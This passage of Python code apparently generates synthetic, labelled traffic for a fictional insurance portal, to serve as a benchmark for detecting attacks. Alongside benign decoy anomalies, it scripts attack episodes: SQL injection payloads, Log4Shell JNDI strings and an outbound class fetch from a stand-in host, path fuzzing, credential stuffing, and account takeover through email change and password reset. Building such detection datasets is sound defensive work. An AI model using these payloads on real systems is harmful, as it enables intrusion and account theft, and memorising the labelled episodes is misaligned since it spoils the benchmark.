            S.call(cl, 'POST', '/api/quotes', js=dict(horsepower=r.randint(50, 240) if r.random() < .93 else None, zip=f'{r.randint(10000, 99999)}',
                noClaimsYears=r.randint(0, 25)))
            yield r.uniform(10, 90)
        x = r.random()
        if x < .25:
            S.call(cl, 'GET', f'/api/tariffs/projection?product=44&years={r.choice([10, 15, 20, 25, 30])}&sum={r.randint(5, 40) * 10000}')
        elif x < .5:
            zip_ = r.randint(10000, 99999) if r.random() < .95 else r.choice(['Berlin', '1010'])
            S.call(cl, 'GET', f'/api/garages/search?zip={zip_}&radius={r.choice([5, 20])}')
        elif x < .75:
            yield from w.chat(cl)
        elif x < .87:
            m = f'{r.choice(FIRST)}.{r.choice(LAST)}{r.randint(1, 999)}@mail.example'
            S.call(cl, 'GET', '/api/registration/availability?' + urlencode({'email': m}))
            yield r.uniform(10, 40)
            S.call(cl, 'POST', '/api/registration', js=dict(email=m, policyNo=r.choice(list(w.app.pol)),
                birthDate=f'19{r.randint(50, 99)}-05-1{r.randint(0, 9)}'))

    def forgot(w, cl, u):
        S, r = w.S, w.r
        S.call(cl, 'POST', '/api/account/password-reset', js=dict(email=u['mail']))
        yield r.uniform(40, 200)
        if r.random() < .3:
            S.call(cl, 'POST', '/api/account/password-reset/confirm', js=dict(email=u['mail'], code='0' + u.get('code', '')[:7], newPassword='x'))
            yield 20
        new = f'{r.choice(WORDS).title()}{r.randint(10, 9999)}'
        if S.call(cl, 'POST', '/api/account/password-reset/confirm', js=dict(email=u['mail'], code=u.get('code'), newPassword=new)).st == 204:
            u['kpw'] = new

    def make_customers(w):
        S, r, app = w.S, w.r, w.app
        holders = r.sample(sorted({p['holder'] for p in app.pol.values()}), 140)
        for i, h in enumerate(holders):
            u = app.user(f'{r.choice(FIRST)}.{r.choice(LAST)}{i}@mail.example', ['CUSTOMER'], h)
            for k in r.sample(list(app.pol), r.choice([0, 0, 1, 2])):
                if app.pol[k]['holder'] not in app.users and app.pol[k]['holder'] not in holders:
                    app.own[app.pol[k]['holder']].remove(k)
                    app.pol[k]['holder'] = h
                    app.own[h].append(k)
            app_user = u['app'] = i % 5 < 3
            u['azp'] = 'norvia-app' if app_user else 'norvia-web'
            six, four = f'2a02:8109:{i:x}:{i * 13:x}::{i % 9 + 2:x}', f'{[87, 91, 93, 84][i % 4]}.{140 + i % 60}.{i}.{i * 11 % 250 + 2}'
            u['src'] = '194.25.30.6' if 20 <= i < 33 else six if i % 4 == 1 else four
            u['forget'], u['old'], u['grows'] = i in (64, 99), i in (71, 118), i % 20 == 7
            ua = ['Norvia/6.4.1 (iPhone; iOS 17.3)', 'Norvia/6.4.1 (Android 14; SM-S911B)'][i % 2]
            u['cl'] = w.at(u['src'], ua if app_user else WEB[i % 4], h, dc='D-nat' if u['src'] == '194.25.30.6' else None)
            w.cust.append(u)
        for i in (40, 43, 46):
            w.cust[i]['also'] = app.own[w.cust[i + 1]['id']]

    def customers(w):
        for i, u in enumerate(w.cust):
            rate = .6 if u['old'] or u['forget'] else .45 if 101 <= i <= 110 else w.r.choice([.12, .25, .45, .8])
            for t in w.S.human_starts(rate, peaks=((8.5, 1.5), (12.5, 1.5), (20, 1.8)), weekend=.6):
                if not u['grows'] or w.r.random() < (t - w.st) / (w.S.days * DAY) + .15:
                    w.S.spawn(t, w.come(u, i, t))

    def come(w, u, i, t):
        cl = u['cl']
        if u['app'] and w.S.now > w.release + (i * 733 % 1000) * 150 and '6.4' in cl.ua:
            cl.ua = cl.ua.replace('6.4.1', '6.5.0')
            cl.dc = cl.dc or 'D-release'
        if i == 81:
            away = 6 < (t - w.st) / DAY < 9
            cl.xff, cl.dc = ('80.58.61.250', 'D-roam') if away else (u['src'], None)
        if w.r.random() < .015:
            yield from w.forgot(cl, u)
        yield from w.visit(cl, u)

    def storm(w, u):
        """after the hail everybody reports a loss"""
        keep, u['cl'].dc = u['cl'].dc, 'D-storm'
        yield from w.visit(u['cl'], u, .85)
        u['cl'].dc = keep

    # --- employees
    def desk(w, u, until):
        S, r, cl = w.S, w.r, u['cl']
        cl.ip = f'172.21.40.{u["seat"]}' if r.random() < .7 else f'172.21.64.{u["seat"]}'
        while S.now < until:
            yield from w.signed(cl, u)
            yield from w.patient(cl, '/backoffice/api/worklist?page=0&size=12')
            if w.rs.st == 200:
                for c in r.sample(w.rs.body['content'], min(len(w.rs.body['content']), r.randint(1, 3))):
                    yield r.uniform(5, 30)
                    yield from w.handle_claim(cl, c)
            if r.random() < .03:
                S.call(cl, 'GET', f'/backoffice/api/claims/SN-2026-{r.randint(1000, 9999):06}')
            if r.random() < .15:
                S.call(cl, 'GET', '/backoffice/api/customers?query=' + quote(r.choice(LAST)[:4]))
            elif r.random() < .06:
                S.call(cl, 'GET', '/backoffice/api/statistics/daily')
            yield r.expovariate(1 / 3500)

    def handle_claim(w, cl, c):
        S, r = w.S, w.r
        S.call(cl, 'GET', f'/backoffice/api/claims/{c["claimId"]}')
        yield r.uniform(4, 40)
        if r.random() < .6:
            S.call(cl, 'GET', f'/api/policies/{c["policyNo"]}')
            yield r.uniform(4, 40)
        d = w.app.claim[c['claimId']]['docs']
        if d and r.random() < .7:
            S.call(cl, 'GET', f'/api/documents/{r.choice(d)}/content')
            yield r.uniform(20, 120)
        x = r.random()
        if x < .3:
            S.call(cl, 'POST', f'/backoffice/api/claims/{c["claimId"]}/notes',
                js=dict(text=r.choice(['called customer', "waiting for garage's estimate", 'ok', 'see mail; 2nd photo missing'])))
        elif x < .45:
            S.call(cl, 'POST', f'/backoffice/api/claims/{c["claimId"]}/approve', js=dict(amount=r.randint(100, 4000)))
        elif x < .5:
            S.call(cl, 'POST', f'/backoffice/api/claims/{c["claimId"]}/decline', js=dict(reason=r.choice(['not covered', 'excess'])))

    def employees(w):
        for i in range(13):
            u = w.app.user(f'{LAST[i][:3]}{FIRST[i][:2]}', ['EMPLOYEE'])
            u.update(azp='backoffice-ui', seat=20 + i * 3)
            u['cl'] = Client(f'172.21.40.{u["seat"]}', WEB[i % 3], u['id'], dc='D-clerk')
            w.staff.append(u)
            for d in range(w.S.days):
                if d % 7 < 5 and w.r.random() < .92:
                    h = w.S.local(d, 7.5) + w.r.random() * 5000
                    w.S.spawn(h, w.desk(u, h + 7.5 * HOUR))
        w.S.spawn(w.S.local(9, 13), w.audit(w.staff[5]))

    def audit(w, u):
        """the auditor checks a sample of 120 claims in one afternoon"""
        for c in w.r.sample(list(w.app.claim), 120):
            yield from w.signed(u['cl'], u)
            w.S.call(u['cl'], 'GET', f'/backoffice/api/claims/{c}', dc='D-audit')
            yield w.r.uniform(15, 120)

    # --- partners
    def agencies(w):
        for i in range(9):
            n, pw = f'AG-{400 + i * 17:04}', f'{w.r.choice(WORDS)}-{w.r.randint(1000, 9999)}'
            w.app.basic[n] = pw
            w.app.cust_doc[n] = w.r.sample(list(w.app.pol), w.r.randint(40, 120))
            cl = w.at(f'62.{153 + i}.{i * 9}.{i * 5 + 11}', 'AgenturCockpit/5.3 (Java/17.0.8)', n,
                headers={'Authorization': 'Basic ' + base64.b64encode(f'{n}:{pw}'.encode()).decode()})
            w.agency.append(cl)
            for d in range(w.S.days):
                if d % 7 < 5:
                    w.S.spawn(w.S.local(d, 8) + w.r.random() * 3600, w.agency_day(cl, n))

    def agency_day(w, cl, n):
        S, r, v = w.S, w.r, w.app.cust_doc[n]
        for p in range((len(v) + 29) // 30):
            S.call(cl, 'GET', f'/api/agency/v1/portfolio?page={p}')
            yield r.uniform(.5, 3)
        for _ in range(r.randint(2, 6)):
            yield r.expovariate(1 / 3000)
            for k in r.sample(v, r.randint(1, 2)):
                S.call(cl, 'GET', f'/api/agency/v1/policies/{k}')
                yield r.uniform(5, 60)
            if r.random() < .4:
                S.call(cl, 'POST', '/api/agency/v1/offers', js=dict(product=r.choice(list(PRODUCTS)), name=f'{r.choice(FIRST)} {r.choice(LAST)}'.title(),
                    sum=r.randint(1, 30) * 1000))
            elif r.random() < .35:
                S.call(cl, 'GET', f'/api/agency/v1/prospects?page={r.randint(0, 400)}&size=20')

    def broker(w, name, src, ua, first, dc, pages):
        S, r = w.S, w.r
        u = w.app.user(name, ['BROKER'])
        w.app.oauth[f'{name}:{u["pw"]}'] = u
        basic = 'Basic ' + base64.b64encode(f'{name}:{u["pw"]}'.encode()).decode()
        cl = w.at(src, ua, u['id'], dc=dc)
        cl.exp = 0
        yield first * DAY
        while True:
            h = (S.now - w.st) / HOUR % 24 + 1
            if 6 < h < 22:
                if S.now > cl.exp - 60:
                    w.grant(cl, grant_type='client_credentials', scope='broker', basic=basic)
                for p in range(r.randint(1, pages)):
                    S.call(cl, 'GET', f'/api/broker/v2/policies?updatedSince={iso(S.now - 7200)[:19]}Z&page={p}')
                    yield r.uniform(.5, 3)
                for _ in range(r.randint(0, 3)):
                    S.call(cl, 'POST', '/api/broker/v2/quotes', js=dict(product='12', horsepower=r.randint(50, 240), plate=None))
                    yield r.uniform(5, 90)
            yield r.uniform(5400, 8600)

    def garages(w):
        for i in range(7):
            n, k = f'garage:{WORDS[i * 2]}', f'wk-{w.app.rng.getrandbits(112):028x}'
            w.app.keys[k] = n
            w.app.cust_doc[n] = []
            w.garage[n] = k
            dc = 'D-newgarage' if i == 6 else None
            cl = w.at(f'217.{80 + i}.{i * 21}.{i + 30}', ['Autosoft/11.2', 'Autosoft/11.2', 'CarRepair365/2.9 okhttp/4.11.0',
                'Apache-HttpClient/4.5.14 (Java/11.0.21)', 'Autosoft/11.3', 'CarRepair365/2.9 okhttp/4.11.0', 'PostmanRuntime/7.36.3'][i], n, dc=dc,
                headers={'X-Api-Key': k})
            for d in range(7 if dc else 0, w.S.days):
                if d % 7 < 5:
                    w.S.spawn(w.S.local(d, 7.2) + w.r.random() * 2000, w.garage_day(cl, n, i, d))

    def garage_day(w, cl, n, i, d):
        S, r, mine = w.S, w.r, w.app.cust_doc[n]
        if i == 2 and d >= 8:
            if d == 8:
                w.app.keys['wk-2026q2-5e0b9a7714c3'] = n
            cl.h['X-Api-Key'], cl.dc = 'wk-2026q2-5e0b9a7714c3', 'D-keyrot'
        for _ in range(r.randint(1, 2)):
            mine.append(r.choice(list(w.app.claim)[-120:]))
        for _ in range(r.randint(2, 4)):
            S.call(cl, 'GET', '/api/garages/v1/assignments')
            yield r.uniform(5, 60)
            c = w.app.claim[r.choice(mine[-5:])]['no']
            S.call(cl, 'GET', f'/api/garages/v1/assignments/{c}')
            if r.random() < .5:
                yield r.uniform(300, 2000)
                S.call(cl, 'POST', f'/api/garages/v1/assignments/{c}/photos',
                    **multipart(r, f'{r.randint(1, 99)}.jpg', 'image/jpeg', r.randint(1500, 5000)))
                yield r.uniform(60, 600)
                S.call(cl, 'POST', f'/api/garages/v1/assignments/{c}/estimate',
                    js=dict(total=r.randint(100, 5000), hours=r.randint(1, 20),
                    parts=[dict(no=f'{r.randint(1000, 9999)}-{r.randint(10, 99)}', price=r.randint(5, 900)) for _ in range(r.randint(1, 4))]))
            yield r.expovariate(1 / 7000)

    def bank(w):
        S, r = w.S, w.r
        w.app.keys['bk-9f21c07de4aa4b3d'] = 'bank:leasefin'
        cl = w.at('185.46.212.34', 'LeaseFin-Connector/3.0', 'bank:leasefin', dc='D-bank', headers={'X-Api-Key': 'bk-9f21c07de4aa4b3d'})
        while True:
            h = (S.now - w.st) / HOUR + 1
            if 8 < h % 24 < 18 and h // 24 % 7 < 5:
                S.call(cl, 'POST', '/api/partners/v1/coverage-check',
                    js=dict(plate=f'{r.choice("BMKHF")}-{r.choice("AEKL")}{r.choice("RSTX")} {r.randint(1, 9999)}',
                    birthDate=f'{r.randint(1950, 2004)}-{r.randint(1, 12):02}-{r.randint(1, 28):02}'))
            yield r.expovariate(1 / 1900)

    # --- machines
    def dunning(w):
        S, r = w.S, w.r
        cl = Client('172.21.90.4', 'dunning-job/2.2.0 (Spring WebClient)', 'svc:dunning', dc='D-dunning')
        yield max(0, S.local(0, 2.2) - S.now)
        while True:
            d = int((S.now - w.st) / DAY)
            cl.dc = 'D-quarter' if d == 11 else 'D-dunning'
            rs = S.call(cl, 'GET', f'/internal/dunning/candidates?date=2026-03-{9 + d:02}')
            for c in (rs.body * 4 if d == 11 else rs.body[:r.randint(40, 60)]):
                S.call(cl, 'GET', f'/internal/accounts/{c["policyNo"]}/balance')
                yield .3
                if r.random() < .12:
                    S.call(cl, 'POST', '/internal/dunning/letters', js=dict(policyNo=c['policyNo'], level=r.randint(1, 3)))
            S.call(cl, 'GET', f'/internal/dunning/export?date=2026-03-{9 + d:02}')
            yield max(60, S.local(d + 1, 2.2) - S.now)

    def probe(w):
        cl = Client('172.21.0.3', 'kube-probe/1.28', 'probe', dc='D-probe')
        while True:
            w.S.call(cl, 'GET', '/actuator/health')
            yield 900


def build(name, seed, attacks, start='2026-03-09', days=18):
    st = ts(start)
    app = Insurer(random.Random(seed + 1), attacks, st)
    S = Sim(name, 'Norvia: insurance portal, synthetic', st, days, '172.21.8.30', 8080, 'service.norvia.example', app, seed, 1)
    for d, text in DECOYS.items():
        S.decoy(d, text.split(':')[0], text)
    w = World(S, app, attacks)
    out0 = S.local(7, 10)
    app.down = [(out0, out0 + 40 * MIN)]
    w.make_customers()
    w.customers()
    w.employees()
    w.agencies()
    w.garages()
    for k, u in enumerate(S.rng.sample(w.cust, 95)):
        S.spawn(S.local(10, 17) + S.rng.expovariate(1 / 6000), w.storm(u))
    for k in range(days * 14):
        S.spawn(st + (k // 14) * DAY + (S.rng.gauss(14, 3.5) % 24) * HOUR, w.stranger(k))
    S.spawn(st + 30, w.broker('maklerpool', '88.198.14.77', 'maklerpool-sync/1.8 (Java-http-client/17)', 0, 'D-broker', 3))
    S.spawn(st + 40, w.broker('vergleich24', '138.201.60.5', 'Go-http-client/2.0', 6, 'D-newbroker', 2))
    S.spawn(st + 20, w.bank())
    S.spawn(st + 1, w.dunning())
    S.spawn(st + 2, w.probe())
    if attacks:
        Attack(w).start()
    S.run()
    return S


DECOYS = {
    'D-nat': 'office_nat: thirteen customers behind one company address', 'D-roam': 'roaming_user: a customer travels on days 6 to 9',
        'D-forget': 'forgetful_user: two customers mistype the password 2 to 5 times',
    'D-family': 'family_sharing: three customers read the policy of the spouse since day 0',
        'D-clerk': 'staff_reads_many: claim clerks read policies, claims and documents of many customers from inside',
    'D-audit': 'record_audit: an auditor opens 120 claims on the afternoon of day 9',
        'D-storm': 'flash_peak: hail on day 10, 95 customers report losses in some hours', 'D-dunning': 'nightly_batch: dunning job at 02:10',
    'D-quarter': 'quarter_run: the dunning job of day 11 is four times as large',
        'D-broker': 'partner_sync: broker with client credentials reads changed policies every two hours',
        'D-newbroker': 'partner_onboarding: a second broker starts on day 6',
    'D-newgarage': 'partner_onboarding: a garage starts on day 7', 'D-keyrot': 'api_key_rotation: a garage has a new key from day 8',
        'D-bank': 'partner_lookup: a leasing bank checks coverage with its key on working days',
    'D-old': 'old_client: two customers keep an old client on /api/v1/contracts, with a token', 'D-release': 'new_app_version: version 6.5.0 from day 8',
        'D-feature': 'documented_new_endpoint: telematics from day 9',
    'D-outage': 'outage_retry_storm: the service is away for 40 minutes on day 7',
        'D-chat': 'odd_text: free texts to the chatbot hold quotes, dashes and words of SQL', 'D-probe': 'monitor_probe: health every 15 minutes'}


class Attack:
    def __init__(a, w):
        a.w, a.S, a.r, a.app, a.st = w, w.S, w.S.rng, w.app, w.st

    def ep(a, *e):
        a.S.episode(e[0], e[1], e[2], e[3], e[4], e[5])

    def start(a):
        for e in EPISODES:
            a.ep(*e)
        a.last_nos = sorted(a.app.pol, key=lambda k: a.app.pol[k]['n'])
        plan = ((9, 21, a.i01), (5, 9, a.i02), (13, 16, a.i03), (15, 12, a.i04), (6, 20, a.i05), (16, 19, a.i06), (12, 1, a.i08), (5, 3, a.i09),
            (7, 23, a.i10), (8, 15, a.i11), (4, 3, a.i12), (10, 9, a.i13), (16, 2, a.i14),
                (11, 2, a.i15), (9, 10, a.i16), (13, 11, a.i18), (10, 22, a.i19), (13, 1, a.i21), (14, 15, a.i23), (5, 14, a.i26), (15, 18, a.i27))
        for d, h, f in plan:
            a.S.spawn(a.S.local(d, h), f())
        for k in range(130):
            a.S.spawn(a.S.local(8, 1) + a.r.random() * 9 * HOUR, a.i07(k))
        for k in range(4):
            a.S.spawn(a.S.local(6, 9) + k * 5000, a.i17(k))
        for k in range(3):
            a.S.spawn(a.st + 11.4 * DAY + k * 9000, a.i24(k))
            a.S.spawn(a.S.local(4, 6) + k * 2500, a.i25(k))
        for k in range(2):
            a.S.spawn(a.S.local(12, 3) + k * 60, a.i22(k))
        a.grow()

    def grow(a):
        real = a.S.call

        def call(cl, m, url, **k):
            if m == 'GET' and re.fullmatch(r'/api/policies/[^/]+/claims/[^/]+', url) and a.S.now > a.st + 14 * DAY + 5 * HOUR and not cl.ep:
                k['ep'] = 'I20'
            return real(cl, m, url, **k)
        a.S.call = call

    def evil(a, n, ep, src=None, ua=None):
        u = a.w.cust[n]
        cl = a.w.at(src or u['src'], ua or u['cl'].ua, u['id'], ep=ep)
        cl.u = u
        a.w.login(cl, u, azp=u['azp'])
        return cl

    def hold(a, cl):
        """stay signed in"""
        if a.S.now > cl.exp - 60:
            a.w.grant(cl, grant_type='refresh_token', client_id=cl.u['azp'], refresh_token=cl.rt)

    def i01(a):
        cl = a.evil(101, 'I01')
        n = a.app.pol[a.app.own[a.w.cust[101]['id']][0]]['n']
        for i in range(1, 141):
            yield a.r.uniform(1, 4)
            a.S.call(cl, 'GET', f'/api/policies/{policy_no("12", n + i)}')

    def i02(a):
        cl = a.evil(102, 'I02')
        for d in range(5, 12):
            yield max(0, a.S.local(d, 9) - a.S.now)
            for _ in range(19):
                yield a.r.uniform(1100, 3100)
                a.hold(cl)
                a.S.call(cl, 'GET', f'/api/policies/{a.r.choice(a.last_nos)}')

    def i03(a):
        cl = a.evil(103, 'I03')
        yield 60
        a.S.call(cl, 'PATCH', '/api/customers/me', js=dict(phone='+49 171 5550101', discountTier='STAFF'))
        yield 45
        a.S.call(cl, 'PATCH', '/api/customers/me', js=dict(phone='+49 171 5550101', discountTier='STAFF', riskClass=0, roles=['CUSTOMER', 'EMPLOYEE']))

    def i04(a):
        cl = a.evil(104, 'I04')
        v = a.app.own[cl.u['id']][0]
        for _ in range(4):
            c = a.S.call(cl, 'POST', f'/api/policies/{v}/claims', js=dict(lossDate='2026-03-20', description='bike', estimated=4800)).body['claimId']
            yield a.r.uniform(30, 200)
            a.S.call(cl, 'POST', f'/backoffice/api/claims/{c}/approve', js=dict(amount=4800))
            yield a.r.uniform(100, 800)

    def i05(a):
        cl = a.evil(105, 'I05')
        c = next(iter(a.app.claim))
        for m, p in (('GET', 'worklist?page=0&size=12'), ('GET', f'claims/{c}'), ('GET', 'customers?query=a'), ('GET', 'statistics/daily'),
                ('POST', f'claims/{c}/notes'), ('POST', f'claims/{c}/decline'), ('GET', 'customers?query=b'), ('GET', 'worklist?page=1&size=100')):
            yield a.r.uniform(8, 50)
            a.S.call(cl, m, f'/backoffice/api/{p}', js=dict(text='x') if m == 'POST' else None)

    def i06(a):
        cl = a.evil(106, 'I06')
        for k in (10, 52, 57, 83, 91):
            v = a.w.cust[k]
            yield a.r.uniform(20, 60)
            rs = a.S.call(cl, 'GET', f'/api/policies/{a.app.own[v["id"]][0]}')
            yield a.r.uniform(20, 60)
            mail = f'n{a.r.randint(100, 999)}@drop.example'
            a.S.call(cl, 'PUT', f'/api/customers/{rs.body["holder"]["customerId"]}/email', js=dict(email=mail))
            yield a.r.uniform(10, 30)
            out = a.w.at(cl.xff, cl.ua, v['id'], ep='I06')
            a.S.call(out, 'POST', '/api/account/password-reset', js=dict(email=mail))
            yield a.r.uniform(30, 90)
            a.S.call(out, 'POST', '/api/account/password-reset/confirm', js=dict(email=mail, code=v['code'], newPassword='Qwertz99'))
            yield 5
            a.w.grant(out, grant_type='password', client_id='norvia-web', username=mail, password='Qwertz99', scope='openid', ident=v['id'])
            yield 3
            a.S.call(out, 'GET', '/api/customers/me')

    def guess(a, cl, name, pw, ident=None):
        a.w.grant(cl, grant_type='password', client_id='norvia-web', username=name, password=pw, scope='openid', ident=ident)

    def i07(a, k):
        cl = a.w.at(f'{a.r.randint(101, 190)}.{a.r.randint(1, 250)}.{a.r.randint(1, 250)}.{a.r.randint(1, 250)}', a.r.choice(WEB + ANDROID), ep='I07')
        for _ in range(a.r.randint(1, 3)):
            a.guess(cl, f'{a.r.choice(FIRST)}{a.r.randint(1, 9999)}@{a.r.choice(["mail", "post"])}.example', f'{a.r.choice(WORDS)}{a.r.randint(1, 999)}')
            yield a.r.uniform(20, 1200)
        if k in (44, 81, 119):
            v = a.w.cust[k // 2]
            a.guess(cl, v['mail'], v['pw'], v['id'])

    def i08(a):
        cls = [a.w.at(f'195.133.{20 + k}.{k * 40 + 9}', WEB[k % 4], ep='I08') for k in range(5)]
        for u in a.r.sample(a.w.cust, 62):
            a.guess(a.r.choice(cls), u['mail'], 'Sommer2025!', u['id'])
            yield a.r.uniform(480, 1700)

    def i09(a):
        cl = a.w.at('193.106.191.40', 'python-requests/2.31.0', ep='I09')
        for k in range(300):
            m = a.r.choice(a.w.cust)['mail'] if a.r.random() < .08 else f'{a.r.choice(FIRST)}.{a.r.choice(LAST)}{a.r.randint(0, 200)}@mail.example'
            a.S.call(cl, 'GET', '/api/registration/availability?' + urlencode({'email': m}))
            yield a.r.uniform(1, 4)

    def i10(a):
        cl = a.w.at('146.70.116.8', 'sqlmap/1.8.2#stable (https://sqlmap.org)', ep='I10')
        v = ["10115", "10115.'(,)\",", "10115'XuFp<'\">kGz", '10115) AND 4411=8120 AND (3=3', '10115 AND 2209=2209', '10115 AND 7781=3310',
            "10115' AND 5530=5530 AND 'a'='a", '10115" AND 1=1 AND "b"="b',
             '10115 AND (SELECT 3391 FROM(SELECT COUNT(*),CONCAT(0x716a,(SELECT (ELT(3391=3391,1))),FLOOR(RAND(0)*2))x '
             'FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)', "10115' AND SLEEP(5) AND 'q'='q", "10115;WAITFOR DELAY '0:0:5'--",
             "10115' UNION ALL SELECT NULL,NULL,NULL-- -", '10115 ORDER BY 1-- -', '10115 UNION ALL SELECT NULL,NULL,CONCAT(0x71,0x6a,0x71)-- -',
                 "10115' ORDER BY 6#", "(SELECT CONCAT('qz',(ELT(2=2,1))))"]
        for k in range(60):
            a.S.call(cl, 'GET', '/api/garages/search?' + urlencode({'zip': v[k % 16] if k < 16 else v[1 + k % 15].replace('10115', str(10115 - k * 37)),
                'radius': '20'}))
            yield a.r.uniform(.05, .5)

    def i11(a):
        cl = a.evil(107, 'I11')
        for n in (18, 30, 42, 54, 60, 64, 66, 68):
            yield a.r.uniform(3, 15)
            a.S.call(cl, 'PUT', '/api/customers/me/payout-account', js=dict(iban='DEAA' + 'A1 ' * (n // 3) + '!'))

    def words(a):
        pre = ('', 'api/', 'actuator/', 'backoffice/', 'api/v2/', 'admin/', 'auth/', 'internal/', 'static/')
        return [f'/{p}{x}' for p in pre for x in WORDS + ['env', 'heapdump', '.git/config', 'swagger-ui.html', 'v3/api-docs', 'h2-console', 'login',
            'backup.zip', 'application.yml', 'jolokia']]

    def i12(a):
        cl = a.w.at('45.148.10.81', 'Fuzz Faster U Fool v2.1.0', ep='I12')
        for p in a.r.sample(a.words(), 245):
            a.S.call(cl, 'GET', p)
            yield a.r.uniform(.1, .4)

    def i13(a):
        u = a.w.cust[110]
        a.w.login(u['cl'], u, azp='norvia-app')
        yield 1500
        cl = a.w.at('185.220.102.8', WEB[0], u['id'], ep='I13', headers={'Authorization': u['cl'].h['Authorization']})
        for n in range(38):
            x = a.r.random()
            k = a.r.choice(a.app.own[u['id']])
            a.S.call(cl, 'GET', '/api/customers/me' if x < .25 else '/api/policies' if x < .5 else f'/api/policies/{k}' if x < .75
                else f'/api/policies/{k}/claims')
            if n in (17, 30):
                a.S.call(cl, 'PATCH', '/api/customers/me', js=dict(phone='+49 152 3377119', newsletter=False))
            if n % 8 == 3:
                a.S.spawn(a.S.now + a.r.uniform(60, 400), a.w.visit(u['cl'], u, 0))
            yield a.r.uniform(150, 1600)

    def i14(a):
        cl = a.evil(108, 'I14', '141.98.6.33', 'python-requests/2.28.2')
        k = a.app.own[cl.u['id']][0]
        ps = [('POST', p) for p in ('/api/quotes', f'/api/policies/{k}/claims', '/api/chatbot/conversations/x/messages', '/api/account/password-reset',
            '/api/registration', '/api/garages/v1/assignments/0/estimate', '/api/agency/v1/offers', '/api/none')]
        ps += [('PATCH', '/api/customers/me'), ('PUT', '/api/customers/me/payout-account'), ('PUT', f'/api/policies/{k}')]
        bad = [b'{', b'[]', b'null', b'{"horsepower":[]}', b'{"lossDate":{}}', b'\x00\xff\xfe', b'A' * 2500, b'{"iban":1e999}',
            '{"phone":"\u202e\ufeff"}'.encode(), b'<a/>', b'-1', b'{"horsepower":-99999999999999999999}', b'{"a":' * 40, b'{"email":null}', b'{}']
        for _ in range(300):
            m, p = a.r.choice(ps)
            a.S.call(cl, m if a.r.random() < .8 else a.r.choice(['PUT', 'PATCH', 'DELETE']), p, body=a.r.choice(bad),
                ct=a.r.choice(['application/json', 'application/json', 'text/plain', 'application/xml']))
            yield a.r.uniform(.2, 1)

    def i15(a):
        cl = a.w.at('5.255.99.120', 'okhttp/3.12.1', ep='I15')
        for k in a.r.sample(a.last_nos, 180):
            a.S.call(cl, 'GET', f'/api/v1/contracts/{k}')
            yield a.r.uniform(10, 60)

    def i16(a):
        cl = a.w.at('77.247.181.9', 'python-requests/2.31.0', ep='I16')
        for _ in range(42):
            a.S.call(cl, 'POST', '/api/partners/v1/coverage-check',
                js=dict(plate=f'{a.r.choice("BMKHF")}-{a.r.choice("AEKL")}{a.r.choice("RSTX")} {a.r.randint(1, 9999)}', birthDate='0000-00-00'))
            yield a.r.uniform(1500, 13000)

    def i17(a, k):
        cl = a.w.at(f'{["167.71.13", "45.155.205", "185.220.100", "195.54.160"][k]}.{k * 30 + 17}',
            ['curl/7.68.0', WEB[0], 'Mozilla/5.0 zgrab/0.x', 'Go-http-client/1.1'][k], ep='I17')
        v = ['${jndi:ldap://198.18.33.4/a}', '${${lower:j}ndi:ldap://198.18.33.4/b}', '${${::-j}${::-n}${::-d}${::-i}:rmi://198.18.33.4/c}',
            '${jndi:dns://198.18.33.4/d}', '${${env:NaN:-j}ndi${env:NaN:-:}ldap://198.18.33.4/e}', '${jndi:${lower:l}${lower:d}ap://198.18.33.4/f}']
        for n in range(9):
            x, y = v[(n + k) % 6], n % 3
            if y == 0:
                a.S.call(cl, 'GET', a.r.choice(['/', '/api/policies', '/api/tariffs/products']),
                    h={a.r.choice(['User-Agent', 'X-Api-Version', 'Referer']): x})
            elif y == 1:
                a.S.call(cl, 'GET', '/api/garages/search?zip=' + quote(x))
            else:
                a.S.call(cl, 'POST', '/api/quotes', js=dict(horsepower=80, zip=x))
            yield a.r.uniform(3000, 19000)

    def i18(a):
        S = a.S
        cl = a.w.at('92.63.197.51', WEB[2], ep='I18')
        S.call(cl, 'GET', '/api/garages/search?zip=80331&radius=20', h={'X-Request-Id': '${${lower:j}ndi:${lower:l}dap://198.18.44.9:1389/Basic/Ex}'})
        yield .4
        ldap = [(1, b'0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\x00\x80\x00'), (0, b'0\x0c\x02\x01\x01a\x07\n\x01\x00\x04\x00\x04\x00'),
            (1, b'0%\x02\x01\x02c \x04\x08Basic/Ex\n\x01\x00\n\x01\x00\x02\x01\x00\x02\x01\x00\x01\x01\x00\x87\x0bobjectClass0\x00'),
                (0, b'0\x60\x02\x01\x02d\x5b\x04\x08Basic/Ex0\x4f0\x16\x04\x0djavaClassName1\x05\x04\x03foo0'
                 b'\x2c\x04\x0cjavaCodeBase1\x1c\x04\x1ahttp://198.18.44.9:8000/#Ex')]
        a.outward('198.18.44.9', 1389, ldap, S.now)
        t = S.now + .25
        req = b'GET /Ex.class HTTP/1.1\r\nUser-Agent: Java/1.8.0_181\r\nHost: 198.18.44.9:8000\r\n'
        req += b'Accept: text/html, image/gif, image/jpeg, *; q=.2, */*; q=.2\r\nConnection: keep-alive\r\n\r\n'
        cls = b'\xca\xfe\xba\xbe\x00\x00\x004' + a.r.randbytes(620)
        rsp = f'HTTP/1.0 200 OK\r\nServer: SimpleHTTP/0.6 Python/3.11.2\r\n'
        rsp = rsp.encode() + f'Content-type: application/java-vm\r\nContent-Length: {len(cls)}\r\n\r\n'.encode() + cls
        port, te = a.outward('198.18.44.9', 8000, [(1, req), (0, rsp)], t)
        S.tx.append(dict(ts=round(t, 6), te=round(te, 6), c=f'{S.server}|{port}', xff=None, m='GET', u='/Ex.class', tm='GET /Ex.class', st=200, rq=0,
            rs=len(cls), id=None, ep='I18', dc=None, _tok=None))

    def outward(a, ip, port, parts, t):
        """a connection that the server itself opens"""
        S = a.S
        keep = S.server, S.port
        c = [a.r.randint(33000, 60000), a.r.getrandbits(32), a.r.getrandbits(32), t, S.server]
        S.server, S.port = ip, port
        S.seg(c, 1, 0x02, b'', t - .05)
        S.seg(c, 0, 0x12, b'', t - .03)
        c[1], c[2] = (c[1] + 1) & 0xffffffff, (c[2] + 1) & 0xffffffff
        S.seg(c, 1, 0x10, b'', t - .01)
        for up, d in parts:
            S.seg(c, up, 0x18, d, t)
            i = 1 if up else 2
            c[i] = (c[i] + len(d)) & 0xffffffff
            t += .03
        S.seg(c, 1, 0x10, b'', t)
        c[3] = t
        S.close(c)
        S.server, S.port = keep
        return c[0], t - .03

    def i19(a):
        n = 'garage:birch' if 'garage:birch' in a.w.garage else sorted(a.w.garage)[0]
